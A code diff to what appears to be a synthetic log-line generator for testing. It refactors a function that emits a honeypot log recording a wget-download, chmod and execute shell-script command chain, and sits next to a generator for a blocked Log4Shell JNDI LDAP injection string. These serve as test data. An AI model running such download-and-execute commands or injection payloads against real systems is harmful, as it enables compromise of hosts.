@@ -71,7 +71,12 @@ const dnsmasq = (c) => {
 };
 const dnsJson = (c) => JSON.stringify({ ts: isoTime(c), client: { ip: c.one("ipv4"), mac: trap(c, "mac") }, query: c.one("dns"), qtype: "A", rcode: "NOERROR", answers: [c.one("ipv4"), c.one("ipv6", 0.3)], ttl: 300, rtt_ms: c.int(1, 99) / 10 });
 const nginxError = (c) => `${c.trap("date", `2026/${two(c.int(1, 12))}/${two(c.int(1, 28))}`)} ${clock(c)} [error] ${c.int(100, 9999)}#${c.int(1, 99)}: *${c.int(1, 99999)} open() "${c.one("linux_path")}" failed (2: No such file or directory), client: ${c.one("ipv4")}, server: ${c.one("dns", 0.05)}, request: "GET ${request(c)} HTTP/1.1", host: "${c.one("dns", 0.05)}"`;
-const botnet = (c) => `${syslogTime(c)} honeypot cowrie: CMD: cd ${c.either("linux_path", "/tmp")}; wget ${c.plant("url", `http://${make.ipv4(c.random)}/${c.word()}.sh`)};chmod +x ${c.trap("file", `${c.word()}.sh`)};sh ${c.trap("file", `${c.word()}.sh`)}; curl -O '${c.one("url")}' && echo ok`;
+function botnet(c) {
+  const script = c.word();
+  const then = c.pick([";", "; ", " && "]);
+  const name = () => c.trap("file", `${script}.sh`);
+  return `${syslogTime(c)} honeypot cowrie: CMD: cd ${c.either("linux_path", "/tmp")}; wget ${c.plant("url", `http://${make.ipv4(c.random)}/${script}.sh`, undefined, "before a command")}${then}chmod +x ${name()}${then}sh ${name()}; curl -O '${c.one("url")}' && echo ok`;
+}
 const log4shell = (c) => `${isoTime(c)} WARN waf - blocked header X-Api-Version: \${jndi:${c.plant("url", `ldap://${make.ipv4(c.random)}:${c.int(1025, 9999)}/${c.random.hex(6)}`, undefined, "ldap")}} from ${c.one("ipv4")}`;
 const ports = (c) => `${isoTime(c)} haproxy[${c.int(300, 9000)}]: [${c.one("ipv6", 0.5)}]:${c.int(1025, 65000)} -> ${c.one("ipv4")}:${c.int(80, 9000)} frontend~ ${c.word()}/${c.word()}${c.int(1, 9)} ${c.int(0, 99)}/0/${c.int(0, 9)}/${c.int(1, 900)}/${c.int(1, 900)} 200 ${c.int(100, 9000)} - - ----`;
 const php = (c) => { const url = make.url(c.random).replace(/\/?$/, "/x"); return `{"level":"info","callback":"${c.plant("url", url, url.replaceAll("/", "\\/"), "slashes escaped")}","ip":"${c.one("ipv4")}"}`; };
